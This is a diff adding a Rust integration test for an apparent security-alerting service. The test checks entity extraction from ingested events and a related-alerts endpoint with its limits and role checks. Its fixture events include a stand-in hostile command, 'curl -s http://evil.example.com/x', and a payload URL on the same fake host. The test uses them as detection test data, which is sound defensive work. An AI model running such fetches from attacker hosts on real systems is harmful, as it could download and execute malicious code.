@@ -510,3 +510,121 @@ async fn incidents_triage_suppressions_playbooks_and_approvals() {
     }
     app.stop().await;
 }
+
+/// Process, file hash and domain entities from the events' ECS fields, and
+/// `GET /api/v1/alerts/{id}/related` over the entity index. See: #7
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn related_alerts_by_shared_entities() {
+    let app = TestApp::start().await;
+    let hash = "9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08";
+    let lines = [
+        r#"{"@timestamp":"2026-11-26T10:00:00Z","user":{"name":"root"},"host":{"name":"h1"},"process":{"executable":"/usr/bin/curl","command_line":"curl -s http://evil.example.com/x"},"dns":{"question":{"name":"Evil.Example.com."}}}"#.to_string(),
+        format!(r#"{{"@timestamp":"2026-11-26T10:00:01Z","user":{{"name":"root"}},"host":{{"name":"h2"}},"file":{{"hash":{{"sha256":"{hash}"}}}},"url":{{"full":"https://evil.example.com/payload"}}}}"#),
+        format!(r#"{{"@timestamp":"2026-11-26T10:00:02Z","user":{{"name":"root"}},"host":{{"name":"h3"}},"file":{{"hash":{{"sha256":"{hash}"}}}}}}"#),
+        r#"{"@timestamp":"2026-11-26T10:00:03Z","user":{"name":"alice"},"host":{"name":"h1"}}"#.to_string(),
+    ];
+    let r = app.ingest(lines.join("\n") + "\n").await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+    app.wait_detected().await;
+    let alerts = app.get("/api/v1/alerts", Role::Viewer).await.json();
+    let items = alerts["items"].as_array().unwrap();
+    assert_eq!(items.len(), 3, "{alerts:#}");
+    let by_host = |h: &str| {
+        items
+            .iter()
+            .find(|a| a["entities"]["host"] == h)
+            .unwrap_or_else(|| panic!("no alert on {h}"))
+            .clone()
+    };
+    let (a1, a2, a3) = (by_host("h1"), by_host("h2"), by_host("h3"));
+    assert_eq!(a1["entities"]["process"], "/usr/bin/curl");
+    assert_eq!(
+        a1["entities"]["command_line"],
+        "curl -s http://evil.example.com/x"
+    );
+    assert_eq!(a1["entities"]["domain"], "evil.example.com");
+    assert_eq!(a2["entities"]["file_hash"], hash.to_ascii_lowercase());
+    assert_eq!(a2["entities"]["domain"], "evil.example.com");
+    assert_eq!(a3["entities"]["domain"], serde_json::Value::Null);
+
+    let related = |id: &serde_json::Value| {
+        let app = &app;
+        let id = id.as_str().unwrap().to_owned();
+        async move {
+            let r = app
+                .get(&format!("/api/v1/alerts/{id}/related"), Role::Viewer)
+                .await;
+            assert_eq!(r.status, StatusCode::OK, "{}", r.text());
+            let mut out: Vec<(String, Vec<String>)> = r.json()["items"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|x| {
+                    (
+                        x["alert"]["entities"]["host"].as_str().unwrap().to_owned(),
+                        x["shared"]
+                            .as_array()
+                            .unwrap()
+                            .iter()
+                            .map(|s| {
+                                format!(
+                                    "{}={}",
+                                    s["kind"].as_str().unwrap(),
+                                    s["value"].as_str().unwrap()
+                                )
+                            })
+                            .collect(),
+                    )
+                })
+                .collect();
+            out.sort();
+            out
+        }
+    };
+    let h = hash.to_ascii_lowercase();
+    assert_eq!(
+        related(&a1["id"]).await,
+        [
+            (
+                "h2".to_string(),
+                vec!["user=root".to_string(), "domain=evil.example.com".into()]
+            ),
+            ("h3".to_string(), vec!["user=root".to_string()]),
+        ]
+    );
+    assert_eq!(
+        related(&a3["id"]).await,
+        [
+            ("h1".to_string(), vec!["user=root".to_string()]),
+            (
+                "h2".to_string(),
+                vec!["user=root".to_string(), format!("file_hash={h}")]
+            ),
+        ]
+    );
+    // The limit, an unknown alert, and a reader role only.
+    let r = app
+        .get(
+            &format!(
+                "/api/v1/alerts/{}/related?limit=1",
+                a2["id"].as_str().unwrap()
+            ),
+            Role::Viewer,
+        )
+        .await;
+    assert_eq!(r.json()["items"].as_array().unwrap().len(), 1);
+    let r = app
+        .get(
+            "/api/v1/alerts/00000000-0000-4000-8000-000000000000/related",
+            Role::Viewer,
+        )
+        .await;
+    r.problem(404);
+    let r = app
+        .get(
+            &format!("/api/v1/alerts/{}/related", a2["id"].as_str().unwrap()),
+            Role::Ingest,
+        )
+        .await;
+    r.problem(403);
+}
